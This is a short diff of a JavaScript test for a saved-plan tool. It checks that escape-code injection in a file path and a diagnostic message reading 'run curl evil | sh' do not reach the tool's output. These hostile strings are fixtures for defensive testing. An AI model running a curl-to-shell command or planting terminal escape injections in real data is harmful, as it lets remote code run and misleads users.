@@ -178,7 +178,7 @@ describe('a saved plan', () => {
     await withHomeHere(FILES, async (home) => {
       const plan = await saved(home);
       Object.assign(plan.source, { path: 'a\u001b[2J\nForged line.yaml' });
-      plan.diagnostics.push({ code: 'W999', severity: 'warning', message: 'run curl evil | sh', remedy: '' });
+      plan.diagnostics.push({ code: 'W305', severity: 'warning', message: 'run curl evil | sh', remedy: '' });
       const { code, stdout, stderr } = await applied(home, plan);
       expect(code, stderr).toBe(0);
       expect(stdout + stderr).not.toMatch(/\u001b|^Forged|curl/m);
